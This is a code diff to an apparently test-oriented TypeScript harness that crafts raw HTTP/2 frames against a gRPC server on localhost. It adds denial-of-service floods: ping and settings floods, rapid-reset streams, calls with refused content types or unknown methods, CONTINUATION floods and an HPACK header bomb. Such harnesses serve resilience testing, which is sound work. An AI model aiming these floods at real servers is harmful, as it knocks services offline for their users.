@@ -2,13 +2,25 @@ import { crowd, type Attack } from './attack.ts';
 import { addressOf, isOpened, open, write } from './connection.ts';
 import { methods } from './grpc.ts';
 
-const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
+/** What a client of HTTP/2 begins with. */
+export const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
 
 /** Types of frames (RFC 9113, section 6). */
-const types = { data: 0, headers: 1, priority: 2, reset: 3, settings: 4, ping: 6, windowUpdate: 8, continuation: 9 };
-const flags = { endStream: 1, endHeaders: 4 };
+export const types = {
+  data: 0,
+  headers: 1,
+  priority: 2,
+  reset: 3,
+  settings: 4,
+  ping: 6,
+  windowUpdate: 8,
+  continuation: 9,
+};
+/** Flags of HEADERS and DATA. */
+export const flags = { endStream: 1, endHeaders: 4 };
 
-function frame(type: number, flag: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
+/** A frame on the wire. */
+export function frame(type: number, flag: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
   const head = Buffer.alloc(9);
   head.writeUIntBE(payload.length, 0, 3);
   head.writeUInt8(type, 3);
@@ -23,13 +35,19 @@ function literal(name: string, value: string): Buffer {
   return Buffer.concat([Buffer.from([0]), part(name), part(value)]);
 }
 
-const call = Buffer.concat([
-  Buffer.from([0x83, 0x87]), // :method POST, :scheme https
-  literal(':path', methods.list),
-  literal(':authority', 'localhost'),
-  literal('content-type', 'application/grpc'),
-  literal('te', 'trailers'),
-]);
+/** The headers of a call. */
+export function callTo(path: string, contentType = 'application/grpc'): Buffer {
+  return Buffer.concat([
+    Buffer.from([0x83, 0x87]), // :method POST, :scheme https
+    literal(':path', path),
+    literal(':authority', 'localhost'),
+    literal('content-type', contentType),
+    literal('te', 'trailers'),
+  ]);
+}
+
+const call = callTo(methods.list);
+const refused = { otherType: callTo(methods.list, 'text/plain'), unknownMethod: callTo('/no.Service/Method') };
 
 /** Puts a header of 4,000 bytes into the table, and then names it again and again: an index of one byte each. */
 const headerBomb = Buffer.concat([
@@ -52,19 +70,31 @@ const streams =
   (turn) =>
     Buffer.concat(Array.from({ length: count }, (_, at) => of(2 * (turn * count + at) + 1)));
 
-const four = (value: number) => {
+/** A number of four bytes. */
+export const four = (value: number) => {
   const bytes = Buffer.alloc(4);
   bytes.writeUInt32BE(value);
   return bytes;
 };
 
+/** Calls that are reset at once. */
+const resets = (count: number, headers: Buffer): Flood =>
+  streams(count, (stream) =>
+    Buffer.concat([frame(types.headers, flags.endHeaders, stream, headers), frame(types.reset, 0, stream, four(8))]),
+  );
+
+const calls = (count: number, headers: Buffer): Flood =>
+  streams(count, (stream) => frame(types.headers, flags.endHeaders + flags.endStream, stream, headers));
+
 const floods = {
   pings: repeated(1_000, frame(types.ping, 0, 0, Buffer.alloc(8))),
   settings: repeated(1_000, frame(types.settings, 0, 0, Buffer.from([0, 4, 0, 0, 0xff, 0xff]))),
-  resets: streams(500, (stream) =>
-    Buffer.concat([frame(types.headers, flags.endHeaders, stream, call), frame(types.reset, 0, stream, four(8))]),
-  ),
-  calls: streams(500, (stream) => frame(types.headers, flags.endHeaders + flags.endStream, stream, call)),
+  resets: resets(500, call),
+  otherTypeResets: resets(1, refused.otherType),
+  unknownMethodResets: resets(1, refused.unknownMethod),
+  otherTypes: calls(500, refused.otherType),
+  unknownMethods: calls(500, refused.unknownMethod),
+  calls: calls(500, call),
   continuations: (turn: number) =>
     Buffer.concat([
       ...(turn === 0 ? [frame(types.headers, 0, 1, call)] : []),
